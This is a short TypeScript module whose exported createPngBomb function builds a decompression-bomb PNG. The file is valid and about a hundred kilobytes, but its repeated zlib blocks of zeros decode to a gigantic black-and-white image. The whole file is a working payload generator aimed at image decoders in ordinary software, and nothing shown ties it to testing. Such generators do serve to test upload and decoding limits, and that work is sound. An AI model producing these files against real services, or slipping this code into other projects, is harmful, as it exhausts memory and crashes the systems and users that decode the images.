import { constants, crc32, deflateRawSync } from 'node:zlib';

/** A black-and-white PNG with sides of this many pixels, valid to its last byte, of some hundred kilobytes. */
export function createPngBomb(side: number): Uint8Array {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 1;
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    buildChunk('IHDR', header),
    buildChunk('IDAT', packZeros(side * (1 + Math.ceil(side / 8)))),
    buildChunk('IEND', Buffer.alloc(0)),
  ]);
}

function buildChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const framed = Buffer.alloc(body.length + 8);
  framed.writeUInt32BE(data.length, 0);
  body.copy(framed, 4);
  framed.writeUInt32BE(crc32(body), body.length + 4);
  return framed;
}

/** This many zeros packed by zlib, by repeating the same block. */
function packZeros(count: number): Buffer {
  const block = 1 << 20;
  const pack = (length: number) =>
    deflateRawSync(Buffer.alloc(length), { finishFlush: constants.Z_FULL_FLUSH });
  const whole = pack(block);
  // The Adler-32 of zeros is 1 in the low half and the count in the high half.
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE((count % 65_521) * 65_536 + 1);
  return Buffer.concat([
    Buffer.of(0x78, 0x9c),
    ...Array.from({ length: Math.floor(count / block) }, () => whole),
    pack(count % block),
    Buffer.of(0x03, 0x00),
    sum,
  ]);
}
